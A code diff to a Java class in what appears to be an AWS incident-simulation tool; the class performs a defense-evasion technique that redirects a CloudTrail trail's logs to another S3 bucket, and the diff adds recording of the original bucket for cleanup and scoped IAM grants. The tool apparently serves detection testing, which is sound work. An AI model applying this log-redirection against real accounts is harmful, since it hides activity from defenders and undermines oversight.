@@ -4,10 +4,13 @@ import io.firedrill.injector.aws.ApiCall;
 import io.firedrill.injector.aws.AwsSession;
 import io.firedrill.injector.cleanup.Change;
 import io.firedrill.injector.cleanup.Ledger;
+import io.firedrill.injector.technique.Arns;
+import io.firedrill.injector.technique.Grant;
 import io.firedrill.injector.technique.IncidentType;
 import io.firedrill.injector.technique.Parameters;
 import io.firedrill.injector.technique.Technique;
 import io.firedrill.injector.technique.TechniqueInfo;
+import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
@@ -25,13 +28,14 @@ public final class CloudTrailRedirectBucket implements Technique<CloudTrailRedir
       new TechniqueInfo(
           "aws.defense-evasion.cloudtrail-redirect-bucket",
           "Deliver a trail to another bucket",
-          "Calls cloudtrail:UpdateTrail with a new S3 bucket. The trail keeps logging, but its"
+          "Reads the trail's bucket (cloudtrail:DescribeTrails), then calls"
+              + " cloudtrail:UpdateTrail with a new S3 bucket. The trail keeps logging, but its"
               + " files now land where the defenders do not look.",
           List.of("T1562.008"),
           IncidentType.COMPLIANCE_VARIANCE,
-          List.of("UpdateTrail"),
+          List.of("DescribeTrails", "UpdateTrail"),
           List.of(),
-          List.of("cloudtrail:UpdateTrail"));
+          List.of("cloudtrail:DescribeTrails", "cloudtrail:UpdateTrail"));
 
   @Override
   public TechniqueInfo info() {
@@ -47,24 +51,39 @@ public final class CloudTrailRedirectBucket implements Technique<CloudTrailRedir
   }
 
   @Override
+  public List<Grant> grants(Params p, Arns arns) {
+    // DescribeTrails lists trails rather than acting on one.
+    List<Grant> grants = new ArrayList<>(Grant.on("*", "cloudtrail:DescribeTrails"));
+    grants.addAll(Grant.on(arns.trail(p.trail()), "cloudtrail:UpdateTrail"));
+    return grants;
+  }
+
+  @Override
   public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
-    try {
-      String before =
-          session
-              .cloudTrail()
-              .describeTrails(r -> r.trailNameList(p.trail()))
-              .trailList()
-              .get(0)
-              .s3BucketName();
-      ledger.willMake(Change.of(Change.TRAIL_BUCKET, p.trail(), "bucket", before));
-    } catch (RuntimeException unreadable) {
-      // The actor cannot read the trail (or it is not there): the update fails the same way.
+    List<ApiCall> calls = new ArrayList<>();
+    List<String> before = new ArrayList<>();
+    calls.add(
+        session.call(
+            "cloudtrail",
+            "DescribeTrails",
+            () -> {
+              var described = session.cloudTrail().describeTrails(r -> r.trailNameList(p.trail()));
+              described.trailList().forEach(t -> before.add(t.s3BucketName()));
+              return described;
+            }));
+    if (!"allowed".equals(calls.get(0).outcome())) {
+      return calls; // a bucket that cannot be read cannot be put back: the trail is left alone
     }
-    return List.of(
+    if (!before.isEmpty()) {
+      ledger.willMake(Change.of(Change.TRAIL_BUCKET, p.trail(), "bucket", before.get(0)));
+    }
+    // No such trail: the update fails with TrailNotFound, which is part of the story.
+    calls.add(
         session.call(
             "cloudtrail",
             "UpdateTrail",
             () ->
                 session.cloudTrail().updateTrail(r -> r.name(p.trail()).s3BucketName(p.bucket()))));
+    return calls;
   }
 }
